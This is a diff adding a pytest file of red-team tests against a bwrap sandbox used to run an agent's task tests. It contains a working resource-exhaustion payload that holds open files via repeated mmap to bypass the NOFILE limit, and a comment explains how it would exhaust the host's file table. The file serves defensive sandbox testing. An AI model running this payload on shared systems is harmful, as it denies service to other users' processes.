@@ -1,0 +1,105 @@
+"""Round 6 attacks on the sandbox (a reviewer who did not build it). Each open finding is a
+strict xfail: it fails today and must start passing once the sandbox is fixed."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import tempfile
+from pathlib import Path
+
+import pytest
+
+PROJECT = Path(__file__).resolve().parents[2]
+# A normal user cannot read root's interpreter (a pyenv under /root): the shared attack
+# venv (see the round briefs) runs this checkout for them.
+USER_PYTHON = os.environ.get("REPO_AGENT_ATTACK_PYTHON", "/opt/atk-venv/bin/python")
+
+# Run by the interpreter of the chosen mode: one run of the task's tests (the agent's
+# run_tests tool) on mini-bugs/fix_gcd, with the files of FILES written first. Prints JSON.
+_RUNNER = r"""
+import json, sys, tempfile
+from pathlib import Path
+sys.path.insert(0, sys.argv[1])
+from agent.suites.loading import load_suite
+from agent.workspace import Workspace
+files = json.loads(sys.argv[2])
+suite = load_suite("mini-bugs")
+ws = Workspace.create(suite, suite.task("fix_gcd"), Path(tempfile.mkdtemp(dir=sys.argv[3])))
+for rel, text in files.items():
+    (ws.path / rel).write_text(text)
+r = ws.run_tests()
+found = {}
+for name in ("held.txt",):
+    p = ws.path / name
+    found[name] = p.read_text() if p.is_file() else None
+print(json.dumps({"passed": r.passed, "error": r.error, "summary": r.summary, "found": found, "output": r.output[-2000:]}))
+"""
+
+
+def run_mode(mode: str, files: dict[str, str], timeout: float = 120) -> dict:
+    """The tests of ``files`` run once in a real bwrap sandbox, as root (``root``) or as
+    the user nobody started with runuser (``user``)."""
+    if shutil.which("bwrap") is None:
+        pytest.fail("bwrap is not installed")
+    if os.geteuid() != 0:
+        pytest.fail("these attacks run as root (and as nobody through runuser)")
+    tmp = Path(tempfile.mkdtemp(prefix="sbx6-"))
+    try:
+        tmp.chmod(0o777)
+        if mode == "root":
+            argv = [sys.executable, "-c", _RUNNER, str(PROJECT), json.dumps(files), str(tmp)]
+        else:
+            if not Path(USER_PYTHON).exists():
+                pytest.fail(f"{USER_PYTHON} (a venv a normal user can read) is missing")
+            argv = ["runuser", "-u", "nobody", "--", USER_PYTHON, "-c", _RUNNER, str(PROJECT), json.dumps(files)]
+            argv.append(str(tmp))
+        env = {k: v for k, v in os.environ.items() if k not in ("REPO_AGENT_SANDBOX", "VIRTUAL_ENV")}
+        cp = subprocess.run(argv, capture_output=True, text=True, timeout=timeout, cwd=str(tmp), env=env)
+        assert cp.returncode == 0, cp.stderr[-3000:]
+        return json.loads(cp.stdout.strip().splitlines()[-1])
+    finally:
+        subprocess.run(["rm", "-rf", str(tmp)], check=False)
+
+
+MODES = ["root", "user"]
+
+# sbx6-1: NOFILE (1024 a process) is the sandbox's bound on the machine's file table
+# (fs.file-max), per the comment on NOFILE_LIMIT. A file mapped into memory stays open after
+# its descriptor is closed: one process holds 65,530 (vm.max_map_count) with one descriptor,
+# and 256 processes 16.7 M, over file-max (2.47 M on a 24 GB machine): ENFILE for every
+# non-root process on the machine (the neighbours' sandboxes included).
+HOLD_FILES = r"""
+import ctypes, os
+def test_hold():
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.mmap.restype = ctypes.c_void_p
+    libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
+    with open("/tmp/f", "wb") as f:
+        f.write(b"x" * 4096)
+    file_max = int(open("/proc/sys/fs/file-max").read())
+    held = 0
+    while held * 256 <= file_max and held < 60000:
+        fd = os.open("/tmp/f", os.O_RDONLY)
+        at = libc.mmap(None, 4096, 1, 2, fd, 0)
+        os.close(fd)
+        if at in (None, ctypes.c_void_p(-1).value):
+            break
+        held += 1
+    with open("held.txt", "w") as f:
+        f.write("%d %d" % (held, file_max))
+"""
+
+
+@pytest.mark.parametrize("mode", MODES)
+@pytest.mark.xfail(
+    strict=True, reason="open: sbx6-1 mmapped files outlive their descriptors: NOFILE does not bound open files"
+)
+def test_sbx6_1_open_files_past_nofile(mode):
+    r = run_mode(mode, {"tests/test_hold.py": HOLD_FILES})
+    held, file_max = map(int, r["found"]["held.txt"].split())
+    # 256 processes (RLIMIT_NPROC) holding as many as one does must stay under the machine's table
+    assert held * 256 < file_max, f"one process held {held} open files; 256 of them: over fs.file-max {file_max}"
